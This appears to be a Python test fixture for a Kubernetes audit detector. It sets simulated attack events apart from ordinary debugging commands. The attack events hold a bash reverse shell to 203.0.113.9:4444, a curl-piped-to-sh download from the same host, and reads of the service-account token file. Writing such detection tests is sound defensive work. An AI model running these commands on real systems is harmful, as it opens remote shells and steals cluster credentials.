"""Commands that read like an attack; what people who debug type is not."""

from world_audit import DAY, HOUR, START


NOW = START + 5 * DAY + 12 * HOUR
ANNA = dict(remote="198.51.100.19")
BOB = dict(remote="198.51.100.17")


SHELL = ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")


def fire(w):
    w.cluster_life(START, 6)
    w.exec(NOW, "bob@example.org", "shop", "web-6d5f8c7b9d-x7k2p", SHELL,
           **BOB)
    w.exec(NOW + HOUR, "anna@example.org", "shop", "web-6d5f8c7b9d-x7k2p",
           ("sh", "-c", "curl -s http://203.0.113.9/x | sh"), **ANNA)
    for i in range(3):  # from elsewhere: one finding
        w.exec(NOW + 2 * HOUR + i, "bob@example.org", "shop", "cart-%d" % i,
               ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
               remote="203.0.113.77")


def quiet(w):
    w.cluster_life(START, 6)
    for i, words in enumerate((("bash",), ("ls", "/tmp"), ("env",), ("sh",
                               "-c", "curl -s http://localhost:8080/health"),
                               ("rsync", "-e", "ssh", "a", "b"))):
        w.exec(NOW + 60 * i, "bob@example.org", "shop",
               "web-6d5f8c7b9d-x7k2p", words, **BOB)
    w.audit(NOW + HOUR, "bob@example.org", "get", "pods", ns="shop",
            name="web-0", sub="exec", code=403, query="command=nsenter&"
            "command=-t&command=1", **BOB)
